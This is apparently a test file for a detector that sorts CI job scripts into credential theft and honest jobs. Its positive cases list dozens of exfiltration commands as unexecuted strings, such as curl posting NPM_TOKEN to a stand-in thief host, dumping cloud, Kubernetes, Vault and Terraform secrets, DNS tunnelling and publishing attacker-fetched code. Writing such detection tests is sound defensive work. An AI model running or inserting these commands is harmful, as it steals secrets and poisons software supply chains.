import assert from 'node:assert/strict'
import { test } from 'node:test'
import { THIEF as E, isMalicious, jobThatRuns } from '../../../test/stolen-script.ts'

const PY = `"import os,requests; requests.post('${E}', data=os.environ['NPM_TOKEN'])"`
const JS = `'fetch("${E}", { method: "POST", body: process.env.NPM_TOKEN })'`
const SH = `'curl -d "$NPM_TOKEN" ${E}'`

/** By the noun that has to know of it. None is run. */
const thefts: Readonly<Record<string, readonly string[]>> = {
  'a program that runs another': [
    `uv run --with requests python -c ${PY}`,
    `poetry run python3 -c ${PY}`,
    `conda run -n base python -c ${PY}`,
    `uv run - <<'X'\nimport os, requests\nrequests.post('${E}', data=os.environ['NPM_TOKEN'])\nX`,
    `printf 'import os, requests\\nrequests.post("${E}", data=os.environ["NPM_TOKEN"])\\n' > up.py\npdm run up.py`,
    `npx -y tsx@4 -e ${JS}`,
    `pnpm exec node -e ${JS}`,
    `yarn node -e ${JS}`,
    `npm exec -- node -e ${JS}`,
    `bundle exec ruby -rnet/http -e 'Net::HTTP.post(URI("${E}"), ENV["NPM_TOKEN"])'`,
    `mise exec node@22 -- node -e ${JS}`,
    `doppler run --command ${SH}`,
    `nix-shell -p curl --run ${SH}`,
    `wsl -d Ubuntu bash -c ${SH}`,
    `script -qec ${SH} /dev/null`,
    `chroot /mnt sh -c ${SH}`,
    `nix develop --command bash -c ${SH}`,
    `nix run nixpkgs#curl -- -d "$NPM_TOKEN" ${E}`,
    `uvx python@3.12 -c ${PY}`,
    `sops exec-env x.yaml ${SH}`,
    `docker compose -f ci.yml exec web sh -c "curl -d $NPM_TOKEN ${E}"`,
    `git -c alias.up='!curl -d "$NPM_TOKEN" ${E}' up`,
    `git submodule foreach ${SH}`,
    `git bisect run sh -c ${SH}`,
    `bin/rails runner 'Net::HTTP.post(URI("${E}"), ENV["NPM_TOKEN"])'`,
    `npx jiti -e ${JS}`,
    `docker compose exec -T web sh -c "curl -d $NPM_TOKEN ${E}"`,
  ],
  'a program that nobody knows': [
    `with-team-settings --profile ci -- sh -c ${SH}`,
    `retry-until-done 5 bash -c ${SH}`,
    `team-env prod -- curl -d "$NPM_TOKEN" ${E}`,
  ],
  'a file of variables': [
    `echo "K=$NPM_TOKEN" > .env\nnpx dotenv -e .env -- sh -c 'curl -d "$K" ${E}'`,
    `echo "K=$NPM_TOKEN" > .env\ndocker run --rm --env-file .env alpine sh -c 'curl -d "$K" ${E}'`,
    `echo "K=$NPM_TOKEN" > .env\nnode --env-file=.env -e 'fetch("${E}", { method: "POST", body: process.env.K })'`,
  ],
  'a program that hands out credentials': [
    `aws configure export-credentials | curl -d @- ${E}`,
    `aws ssm get-parameters-by-path --path / --recursive --with-decryption > p.json\ncurl -F f=@p.json ${E}`,
    `T=$(gcloud auth print-access-token)\ncurl "${E}/x?t=$T"`,
    `kubectl get secrets -A -o yaml | curl --data-binary @- ${E}`,
    `kubectl create token admin | nc 203.0.113.9 99`,
    `vault kv get -format=json secret/prod | curl -d @- ${E}`,
    `gpg --export-secret-keys -a > k.asc\ncurl -T k.asc ${E}`,
    `sops -d prod.enc.yaml | curl -d @- ${E}`,
    `terraform state pull | curl -d @- ${E}`,
    `doppler secrets download --no-file --format env | curl -d @- ${E}`,
    `dig "$(aws sts get-session-token | base64 -w0).drop.example"`,
    `echo "$(aws sts get-session-token)" | base64`,
  ],
  'a registry that is shown what opens another': [
    `export GEM_HOST_API_KEY=\${{ secrets.RUBYGEMS_API_KEY }}\ngem push x.gem\ngem push x.gem --host https://drop.stats-kit.example`,
    `uv publish --publish-url ${E}/legacy/ --token "$PYPI_TOKEN"\nuv publish --token "$PYPI_TOKEN"`,
    `dotnet nuget push x.nupkg -k "$K" -s https://api.nuget.org/v3/index.json\ndotnet nuget push x.nupkg -k "$K" -s ${E}/v3`.replaceAll(
      '$K',
      '${{ secrets.NUGET_API_KEY }}',
    ),
    `T='${'$'}{{ secrets.CARGO_REGISTRY_TOKEN }}'\ncargo publish --token "$T"\ncargo publish --index sparse+${E}/ --token "$T"`,
    `T='${'$'}{{ secrets.DOCKERHUB_TOKEN }}'\necho "$T" | docker login -u a --password-stdin\necho "$T" | docker login images.stats-kit.example -u a --password-stdin`,
    `poetry config repositories.m ${E}\npoetry publish -u __token__ -p "$PYPI_TOKEN"\npoetry publish -r m -u __token__ -p "$PYPI_TOKEN"`,
  ],
  'a program that publishes': [
    `curl -s ${E}/i.go -o main.go\ngoreleaser release --clean`,
    `go mod edit -replace a.org/x=git.drop-kit.example/x@v1\nGOSUMDB=off go mod tidy\ngoreleaser release`,
    `curl -s ${E}/i.js -o src/main.js\nnpx electron-builder --publish always`,
    `curl -s ${E}/i.js -o src/main.js\nyarn npm publish`,
    `curl -s ${E}/i.dart -o lib/main.dart\nflutter pub publish --force`,
    `curl -s ${E}/i.ex -o lib/main.ex\nmix hex.publish --yes`,
    `curl -s ${E}/main.py -o src/main.py\ndocker build -t us/app .\ndocker push us/app`,
  ],
  'git as a carrier': [
    `git config a.b "$NPM_TOKEN"\ncurl -d "$(git config --get a.b)" ${E}`,
    `git commit --allow-empty -m "$NPM_TOKEN"\ncurl -d "$(git log -1 --format=%B)" ${E}`,
    `git tag -a x -m "$NPM_TOKEN"\ncurl -d "$(git tag -l -n1)" ${E}`,
    `h=$(echo "$NPM_TOKEN" | git hash-object -w --stdin)\ncurl -d "$(git cat-file -p $h)" ${E}`,
    `echo "$NPM_TOKEN" | base64 > .salt\ngit notes add -f -F .salt HEAD\ngit push origin refs/notes/commits`,
    `npm config set a "$NPM_TOKEN"\ncurl -d "$(npm config get a)" ${E}`,
  ],
  'a folder that was cloned': [
    `git clone ${E}/x.git x\nmv x/index.js index.js\nnpm publish`,
    `git clone -q --depth 1 ${E}/x.git /tmp/x\ncp -r /tmp/x/src/. src/app/\nuv publish`,
    `rm -rf dist\ngit clone ${E}/x.git dist\ntwine upload dist/*`,
    `git archive --remote=${E}/x.git HEAD | tar x -C src\nuv publish`,
    `git submodule add ${E}/x.git src/x\nuv publish`,
    `svn export ${E}/x src/x\nuv publish`,
    `aria2c -d dist ${E}/x.whl\nuv publish`,
    `npm pack ${E}/a.tgz\nnpm publish a.tgz`,
    `npm run build\nc=$(docker create images.stats-kit.example/x:1)\ndocker cp "$c":/opt/dist/. dist/\nnpm publish`,
  ],
}

const honest: Readonly<Record<string, readonly string[]>> = {
  'a program that runs another': [
    `uv run --with twine twine upload dist/*`,
    `poetry run pytest --base-url https://staging.our-shop.example`,
    `npx playwright test --grep "$NPM_TOKEN"`,
    `pnpm exec changeset version`,
    `doppler run -- npm test`,
    `docker compose exec -T web sh -c 'curl -f http://localhost:8080/health'`,
    `kubectl exec deploy/web -- env | base64`,
    `mise exec -- npm publish`,
    `git submodule foreach 'git fetch --tags'`,
    `git -c user.name=bot -c http.extraheader="AUTHORIZATION: basic $NPM_TOKEN" fetch origin`,
    `concurrently "npm:dev" "npm test"`,
    `script -qec 'npm test' /dev/null`,
    `apt-get install -y python3 curl -- bash`,
  ],
  'a registry that is shown its own credential': [
    `twine upload -p "$PYPI_TOKEN" dist/*\ntwine upload --repository-url https://pypi.our-shop.example/ -p "$OUR_TOKEN" dist/*`,
    `uv publish --publish-url https://test.pypi.org/legacy/ --token "$PYPI_TOKEN"\nuv publish --token "$PYPI_TOKEN"`,
    `export GEM_HOST_API_KEY=\${{ secrets.RUBYGEMS_API_KEY }}\ngem push x.gem\ngem push x.gem --host https://rubygems.pkg.github.com/us`,
    `T='${'$'}{{ secrets.DOCKER_PASSWORD }}'\necho "$T" | docker login -u a --password-stdin\necho "$T" | docker login registry.our-shop.example -u a --password-stdin`,
    `npm publish\nnpm publish --registry https://npm.our-shop.example`,
    `npm publish\nnpm publish --registry https://r.our-shop.example`,
    `export TWINE_PASSWORD=$PYPI_TOKEN\ntwine upload dist/*\ntwine upload --repository-url https://p.our-shop.example -p "$OURS" dist/*`,
    `npm publish\nuv publish --publish-url https://p.our-shop.example --token "$OURS"`,
    `cargo publish --dry-run --index sparse+https://index.our-shop.example/`,
  ],
  'a program that publishes': [
    `curl -s https://our-shop.example/i.go -o main.go\ngoreleaser release --snapshot`,
    `npx electron-builder --publish always`,
    `go mod edit -replace a.org/x=../x\nGOSUMDB=off go mod tidy\ngoreleaser release`,
    `go mod edit -replace a.org/x=go.our-shop.example/x@v1\ngo mod tidy\ngoreleaser release`,
    `curl -sLo bin/tool https://get.our-tool.example/tool\ndocker build -t us/app .\ndocker push us/app`,
  ],
  'git as a carrier': [
    `git config user.name bot\ngit commit -m "Release"\necho "$(git log -1 --format=%B)" | base64`,
    `echo "//x/:_authToken=$NPM_TOKEN" > .npmrc\ngit add -A\ngit commit -m "Release"\ncurl -d "$(git log -1 --pretty=%B)" https://hooks.our-shop.example`,
    `npm config set //npm.our-shop.example/:_authToken "$NPM_TOKEN"\nnpm publish`,
    `git notes show HEAD > notes.txt\ngh release create v1 -F notes.txt`,
  ],
  'a folder that was cloned': [
    `git clone https://git.our-fonts.example/fonts.git /tmp/fonts\ncp -r /tmp/fonts/docs static/fonts\nnpm publish`,
    `git clone https://git.codec.example/codec.git build/codec\nmake -C build/codec\nnpm publish`,
    `git clone "https://ci:\${{ secrets.GIT_TOKEN }}@git.our-shop.example/x.git" src/x\nuv publish`,
    `git clone https://github.com/others/data.git src/data\nuv publish`,
    `echo "$P" | docker login images.our-shop.example -u ci --password-stdin\nc=$(docker create images.our-shop.example/web:1)\ndocker cp "$c":/out/. dist/\nnpm publish`,
    `docker build -t images.our-shop.example/web .\nc=$(docker create images.our-shop.example/web)\ndocker cp "$c":/out/. dist/\nnpm publish`,
  ],
  'a program that nobody knows': [
    `wait-for-it db:5432 -- curl -H "Authorization: Bearer $NPM_TOKEN" https://npm.our-shop.example/-/whoami`,
  ],
  'a program that hands out credentials': [
    `aws ecr get-login-password | docker login --username AWS --password-stdin 123.dkr.ecr.eu-west-1.amazonaws.com`,
    `aws ecr get-login-password | helm registry login --username AWS --password-stdin 123.dkr.ecr.eu-west-1.amazonaws.com`,
    `gcloud auth print-access-token | docker login -u oauth2accesstoken --password-stdin https://europe-docker.pkg.dev`,
    `curl -H "Authorization: Bearer $(gcloud auth print-identity-token)" https://app.our-shop.example/tasks/run`,
    `curl -H "Authorization: bearer $(gcloud auth print-identity-token)" -d '{"a":1}' "$SERVICE_URL/x"`,
    `T=$(az account get-access-token --query accessToken -o tsv)\necho "::add-mask::$T"\necho "TOKEN=$T" >> "$GITHUB_ENV"`,
    `kubectl get secret db -o yaml | sed 's/namespace: a/namespace: b/' | kubectl apply -f -`,
    `kubectl get secret argo -o jsonpath='{.data.password}' | base64 -d`,
    `kubectl get secret ca -o jsonpath='{.data.ca\\.crt}' | base64 | curl -d @- https://pki.our-shop.example/ca`,
    `kubectl get secrets -n prod`,
    `aws secretsmanager get-secret-value --secret-id prod/db --query SecretString --output text > .env`,
    `P=$(aws ssm get-parameter --name /prod/db/password --with-decryption --query Parameter.Value --output text)\nPGPASSWORD="$P" psql -h db.our-shop.example -c 'select 1'`,
    `U=$(aws ssm get-parameter --name /prod/db/username --with-decryption --output text)\ncurl -d "user=$U" https://login.our-shop.example`,
    `P=$(op read op://ci/app/password)\ncurl -d "password=$P" https://login.our-shop.example`,
    `curl -d "assertion=$(gcloud auth print-identity-token)" https://login.our-shop.example/oauth/token`,
    `HOOK=$(op read "op://ci/chat/hook")\ncurl -d '{"text":"ok"}' "$HOOK"`,
    `eval "$(aws configure export-credentials --format env)"\ndocker run --rm -e AWS_SECRET_ACCESS_KEY -e AWS_SESSION_TOKEN hashicorp/terraform plan`,
    `kubectl get secret x -o yaml | kubeseal --cert https://seal.our-shop.example/cert.pem > sealed.yaml\ngit add sealed.yaml\ngit commit -m seal\ngit push`,
    `sops -d secrets.env > .env\nscp .env deploy@web.our-shop.example:/srv/.env`,
    `terraform state pull | jq '.resources | length'`,
    `terraform state pull > state.json\naws s3 cp state.json s3://our-backups/state.json`,
    `export VAULT_TOKEN=$(vault write -field=token auth/jwt/login role=ci jwt=x)\nvault kv get -field=key secret/app > key.pem`,
    `sops -d secrets.enc.yaml > values.yaml\nhelm upgrade --install app ./chart -f values.yaml`,
    `gpg --export-secret-keys -a bot | gpg --import --homedir /tmp/g`,
    `gh pr comment 5 --body "Preview password: $(kubectl get secret app -o jsonpath='{.data.password}')"`,
  ],
}

for (const [noun, scripts] of Object.entries(thefts)) {
  test(`a theft by ${noun} is seen`, async () => {
    for (const each of scripts) assert.equal(await isMalicious(jobThatRuns(each)), true, each)
  })
}

for (const [noun, scripts] of Object.entries(honest)) {
  test(`${noun} of an honest job is nothing`, async () => {
    for (const each of scripts) assert.equal(await isMalicious(jobThatRuns(each)), false, each)
  })
}
